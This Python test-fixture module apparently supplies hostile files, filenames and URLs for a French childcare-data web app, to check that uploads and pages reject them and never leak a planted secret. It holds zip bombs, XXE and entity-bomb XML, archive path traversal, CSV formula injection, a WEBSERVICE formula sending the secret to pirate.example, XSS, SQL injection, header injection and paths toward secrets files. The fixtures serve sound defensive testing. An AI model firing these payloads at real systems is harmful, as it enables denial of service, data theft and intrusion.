"""What an attacker sends: sixty files and forty links. Each file holds `SECRET`, which must be found nowhere afterwards."""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Callable
from urllib.parse import quote

SECRET = "MOT-A-NE-PAS-GARDER"
TYPES = '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
BOOK = '<workbook xmlns:r="r"><sheets><sheet name="Feuil1" sheetId="1" r:id="rId1"/></sheets></workbook>'
LINKS_OF_BOOK = '<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>'
HEAD = "Code commune;Commune;Type;Nom;Places\n"


def archive(sheet: str | bytes = "<worksheet/>", **extra: str | bytes) -> bytes:
    """A minimal xlsx with this sheet; `extra` adds or replaces members (`__` stands for `/`)."""
    members: dict[str, str | bytes] = {
        "[Content_Types].xml": TYPES,
        "xl/workbook.xml": BOOK,
        "xl/_rels/workbook.xml.rels": LINKS_OF_BOOK,
        "xl/worksheets/sheet1.xml": sheet,
    }
    members |= {name.replace("__", "/"): content for name, content in extra.items()}
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in members.items():
            file.writestr(name, content)
    return target.getvalue()


def sheet(*rows: str, foot: str = "") -> str:
    return f"<worksheet><sheetData>{''.join(rows)}</sheetData>{foot}</worksheet>"


def cells(*inside: str) -> str:
    return sheet(f"<row r='1'>{''.join(inside)}</row>")


def text(reference: str, content: str) -> str:
    return f"<c r='{reference}' t='inlineStr'><is><t>{content}</t></is></c>"


def table(*more: str) -> str:
    """A sheet that would be a table, and what spoils it."""
    head = "".join(
        text(f"{letter}1", name) for letter, name in zip("ABC", ("Commune", "Nom", "Places"), strict=True)
    )
    row = f"{text('A2', 'Ville')}{text('B2', SECRET)}<c r='C2'><v>3</v></c>"
    return sheet(f"<row r='1'>{head}</row>", f"<row r='2'>{row}</row>", *more)


def zip_bomb() -> bytes:
    return archive(b"<worksheet><sheetData>" + b"<row/>" * 40_000_000)


def deep_bomb() -> bytes:
    """A bomb whose directory lies about the sizes."""
    data = bytearray(archive(b"0" * 60_000_000))
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(data)


def encrypted() -> bytes:
    data = bytearray(archive(table()))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(mark)
        while place >= 0:
            data[place + at] |= 1
            place = data.find(mark, place + 4)
    return bytes(data)


def overlapping() -> bytes:
    """Every name of the directory points at one member."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("[Content_Types].xml", TYPES)
        file.writestr("xl/workbook.xml", b"0" * 4_900_000)
        first = file.infolist()[1]
        for number in range(60):
            twin = zipfile.ZipInfo(f"xl/{number}.xml")
            for name in ("header_offset", "CRC", "compress_size", "file_size", "compress_type"):
                setattr(twin, name, getattr(first, name))
            file.filelist.append(twin)
    return target.getvalue()


def line_of(rows: int, *, seed: int = 7) -> str:
    """Names of communes that resemble none."""
    letters = random.Random(seed)
    return HEAD + "".join(
        f";{''.join(letters.choices('abcdeilnorstu', k=14))};Multi-accueil;{SECRET};3\n" for _ in range(rows)
    )


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;&x;&x;&x;&x;&x;&x;">]>'
    "<worksheet><sheetData>&y;</sheetData></worksheet>"
)
OUTSIDE = (
    '<!DOCTYPE a SYSTEM "file:///etc/passwd"><worksheet><sheetData>'
    "<row><c t='inlineStr'><is><t>Nom</t></is></c><c t='inlineStr'><is><t>Places</t></is></c></row>"
    "<row><c t='inlineStr'><is><t>a</t></is></c><c><v>3</v></c></row></sheetData></worksheet>"
)

REFUSED: dict[str, Callable[[], bytes]] = {
    "nothing at all": lambda: b"",
    "blanks": lambda: b" \n \n",
    "a zip bomb": zip_bomb,
    "a zip that lies about its sizes": deep_bomb,
    "an entity bomb": lambda: archive(LAUGHS),
    "an entity from the disk": lambda: archive(OUTSIDE),
    "16,384 filled columns in a CSV": lambda: (
        (";".join(["a"] * 16_384) + "\n").encode() + (";".join(["1"] * 16_384) + "\n").encode() * 20
    ),
    "a filled cell in column XFD": lambda: archive(cells(text("XFD1", "a"), text("A1", "b"))),
    "a cell in a column that does not exist": lambda: archive(cells(text("ZZZZ1", "a"))),
    "a row two thousand millions down": lambda: archive(
        f"<worksheet><sheetData><row r='9999999'>{text('A9999999', 'a')}</row></sheetData></worksheet>"
    ),
    "macros": lambda: archive(cells(text("A1", "a")), xl__vbaProject="x", **{"xl/vbaProject.bin": b"x"}),
    "macros under another name": lambda: archive(
        **{"[Content_Types].xml": TYPES.replace("sheet.main", "sheet.macroEnabled.main")}
    ),
    "a path out of the archive": lambda: archive(**{"../../etc/cron.d/x": "x"}),
    "an absolute path": lambda: archive(**{"/etc/passwd": "x"}),
    "a Windows path": lambda: archive(**{"C:\\x": "x"}),
    "ten thousand members": lambda: archive(**{f"xl/m{n}.xml": "" for n in range(10_000)}),
    "a zip that is no workbook": lambda: archive().replace(b"xl/", b"yl/"),
    "a truncated workbook": lambda: archive(cells(text("A1", "a" * 5000)))[:-200],
    "broken XML": lambda: archive("<worksheet><sheetData><row>"),
    "an index out of the table of texts": lambda: archive(cells("<c r='A1' t='s'><v>99</v></c>")),
    "an old Excel file": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "a PDF named csv": lambda: b"%PDF-1.7 ;;;;",
    "a picture named csv": lambda: b"\x89PNG\r\n\x1a\n" + bytes(400),
    "an executable": lambda: b"MZ\x90\x00" + bytes(4000),
    "NUL bytes": lambda: b"Commune;Places\nCr\x00\x00\x00on;3\n",
    "random bytes": lambda: bytes(range(256)) * 400,
    "a web page": lambda: b"<html><script>alert(1)</script></html>",
    "gzip": lambda: b"\x1f\x8b\x08" + bytes(99),
    "an endless quote": lambda: b'Commune;Places\n"' + b"a;1\n" * 600_000,
    "three million cells": lambda: b"1;2;3;4;5;6;7;8;9\n" * 330_000,
    "a workbook with a password": encrypted,
    "members that overlap": overlapping,
    "a Word document": lambda: archive(**{"word/document.xml": "<w:document/>"}).replace(b"xl/", b"yl/"),
    "an OpenDocument sheet": lambda: archive(**{"mimetype": "application/vnd.oasis"}).replace(b"xl/", b"yl/"),
    "a binary workbook": lambda: archive(**{"xl/workbook.bin": b"x"}),
    "a workbook within a workbook": lambda: archive(**{"xl/inner.xlsx": b"PK"}),
    "a drawing that is a script": lambda: b"<?xml version='1.0'?><svg onload='alert(1)'/>",
    "200,001 rows": lambda: ("Commune;Places\n" + "Ville;3\n" * 200_001).encode(),
    "a row below zero": lambda: archive(sheet("<row r='-5'><c r='A-5'><v>1</v></c></row>")),
}
"""Files that are refused with a sentence, whoever sends them."""

ODD: dict[str, Callable[[], bytes]] = {
    "a member that is not compressed as it says": lambda: archive(table()).replace(
        b"\x08\x00", b"\x0c\x00", 1
    ),
    "formulas": lambda: (
        f'{HEAD}33063;=cmd|\' /C calc\'!A0;@SUM(1);=HYPERLINK("http://pirate.example";"{SECRET}");-1+2\n'.encode()
    ),
    "Markdown and tags": lambda: (
        f"{HEAD}33063;![x](http://pirate.example/a.png);<img src=x onerror=alert(1)>;{SECRET};3\n".encode()
    ),
    "600 kB of blank names": lambda: (HEAD + f";a{' ' * 600_000};x;{SECRET};3\n").encode(),
    "a heading of a megabyte": lambda: ("Commune;" + "places " * 150_000 + f"\nVille;3{SECRET}\n").encode(),
    "letters that turn the line": lambda: (
        f"{HEAD}33063;\u202eellivedroB\u200b\ufeff;\u0000x;{SECRET};3\n".encode()
    ),
    "numbers of four thousand figures": lambda: (
        f"{HEAD}33063;;Multi-accueil;{SECRET};{'9' * 4_000}\n".encode()
    ),
    "numbers that are none": lambda: (
        HEAD
        + "".join(
            f"33063;;Multi-accueil;{SECRET};{n}\n" for n in ("nan", "inf", "-0", "1e999", "٣", "0x10", "½")
        )
    ).encode(),
    "a separator that is a letter": lambda: f"sep=e\nCommunePlaces{SECRET}\n".encode(),
    "a thousand empty lines and one cell": lambda: (
        "\n" * 1_000 + f"Commune;Places\n\nVille;3{SECRET}"
    ).encode(),
    "nested quotes": lambda: (f'Commune;Places\n"{chr(34) * 2 * 20_000}{SECRET}";3\n').encode(),
    "ten thousand merged ranges": lambda: archive(
        table().replace(
            "</worksheet>",
            "<mergeCells>" + "<mergeCell ref='A1:XFD1048576'/>" * 10_000 + "</mergeCells></worksheet>",
        )
    ),
    "a merge over the whole sheet": lambda: archive(
        table().replace("</worksheet>", "<mergeCells><mergeCell ref='A1:KM40'/></mergeCells></worksheet>")
    ),
    "a link to another workbook": lambda: archive(
        table(), xl__externalLinks__externalLink1="<externalLink/>"
    ),
    "a formula that asks the web": lambda: archive(
        table(f"<row r='3'><c r='A3'><f>WEBSERVICE(\"http://pirate.example/{SECRET}\")</f><v>1</v></c></row>")
    ),
    "a date beyond the calendar": lambda: archive(
        table("<row r='3'><c r='A3' s='1'><v>1e308</v></c></row>"),
        **{
            "xl/styles.xml": "<styleSheet><cellXfs><xf numFmtId='0'/><xf numFmtId='14'/></cellXfs></styleSheet>"
        },
    ),
    "an entity that is no letter": lambda: archive(table(f"<row r='3'>{text('A3', '&#xD800;')}</row>")),
    "styles without end": lambda: archive(
        table(), **{"xl/styles.xml": "<styleSheet>" + "<numFmt formatCode='y'/>" * 50_000}
    ),
    "a relation to the outside": lambda: archive(
        table(), **{"xl/_rels/workbook.xml.rels": LINKS_OF_BOOK.replace("Id=", "TargetMode='External' Id=")}
    ),
    "a sheet outside its folder": lambda: archive(
        table(), **{"xl/_rels/workbook.xml.rels": LINKS_OF_BOOK.replace("worksheets/", "../../worksheets/")}
    ),
    "nineteen hundred sheets": lambda: archive(
        table(), **{f"xl/worksheets/s{n}.xml": table() for n in range(1_900)}
    ),
    "20,000 names that resemble no commune": lambda: line_of(20_000).encode(),
    "29 MB on one line": lambda: b"Commune;Places\n" + SECRET.encode() + b"a" * 29_000_000,
    "29 MB of a list": lambda: (
        HEAD + f"33063;Bordeaux;Multi-accueil;{SECRET} {'rue de la gare ' * 12};12\n" * 128_000
    ).encode(),
    "299 columns": lambda: (
        ";".join(f"c{n}" for n in range(299)) + "\n" + (";".join(["7"] * 299) + "\n") * 4_900
    ).encode(),
    "290 headings alike": lambda: (
        (";".join(["Places"] * 290) + "\n" + ";".join(["1"] * 290) + "\n").encode() * 20
    ),
}
"""Files that may be read, or not: nothing that they hold is run, fetched, drawn as it stands or kept."""

FILES = REFUSED | ODD

NAMES = (
    "x" * 5_000 + ".csv", "../../etc/passwd.csv", "a\r\nSet-Cookie: a=b.csv", "<img src=x onerror=alert(1)>.csv",
    "![x](http:⁄⁄pirate.example⁄a.png).csv", "\u202evsc.exe.csv", "CON.csv", ".csv",
)  # fmt: skip
"""Names under which they are sent."""

_LONG = "perimetre:" + "+".join(f"{n:05d}" for n in range(1_001, 9_000))
_PIRATE = quote("![x](http://pirate.example/a.png)<img src=http://pirate.example/b.png>")
PAGE_LINKS: tuple[tuple[str, str], ...] = (
    ("synthese", f"territoire={quote(_LONG)}"),
    ("synthese", f"territoire=commune:{'9' * 100_000}"),
    ("synthese", "territoire=commune:%00%00"),
    ("synthese", f"territoire={_PIRATE}&nom={_PIRATE}"),
    ("synthese", "territoire=commune:33063'%20or%201=1--"),
    ("synthese", "territoire=perimetre:"),
    ("synthese", "territoire=perimetre:+++++"),
    ("synthese", "territoire=france&territoire=commune:33063&territoire=x"),
    ("synthese", "territoire=%ff%fe%c0%af"),
    ("synthese", "territoire=FRANCE%00&reference=%0d%0aSet-Cookie:%20a=b"),
    ("comparer", "territoire=france&reference=objectif:1e999"),
    ("comparer", "territoire=france&reference=objectif:nan"),
    ("comparer", f"territoire=france&avec={'.'.join(f'commune:{n:05d}' for n in range(1_001, 6_000))}"),
    ("comparer", "territoire=france&indicateur=__class__&ordonnee=__init__"),
    ("comparer", f"territoire=france&bornes={'.'.join(['1e308'] * 2_000)}"),
    ("carte", "territoire=france&couleur=classes&methode=bornes&bornes=nan.inf.-inf.1e999"),
    ("carte", "territoire=france&couleur=classes&methode=bornes&bornes=1.1.1.1"),
    ("carte", "territoire=france&classes=0&rayon=-1&portee=nan&ecran=1e9"),
    ("carte", "territoire=france&echelle=../../etc&fond=javascript:alert(1)"),
    ("carte", "territoire=france&afficher=" + "noms." * 5_000),
    ("petite_enfance", "territoire=france&rayon=" + "9" * 5_000),
    ("agir", f"territoire=france&commune={_PIRATE}"),
    ("convention", "territoire=france&nom=" + quote("\u202e" * 3_000)),
    ("exports", "territoire=departement:33&reference=perimetre:" + "33063+" * 400),
    ("mes_donnees", f"territoire=france&nom={'x' * 200_000}"),
)
"""A page and what its address says."""

PATHS: tuple[str, ...] = (
    "/api/v1/territoires/" + "9" * 8_000,
    "/api/v1/territoires/..%2f..%2fetc%2fpasswd",
    "/api/v1/territoires/commune:33063%00",
    "/api/v1/donnees?indicateur=' union select 1--",
    "/api/v1/donnees?" + "&".join(f"indicateur=taux_couverture{n}" for n in range(800)),
    "/api/v1/indicateurs/%2e%2e/%2e%2e",
    "/integrer/..%2f..%2fsecrets?territoire=france",
    "/integrer/offre?territoire=" + quote(_LONG[:6_000]),
    "/integrer/<script>alert(1)</script>",
    "/media/..%2f..%2fdata%2fdiagnostic.duckdb",
    "/component/..%2f..%2fapp/index.html",
    "/app/static/..%2f..%2f.streamlit/secrets.toml",
    "/_stcore/upload_file/..%2f/..%2f",
    "/static/%2e%2e/%2e%2e/etc/passwd",
    "//pirate.example/%2f..",
)
"""Addresses asked without a page."""
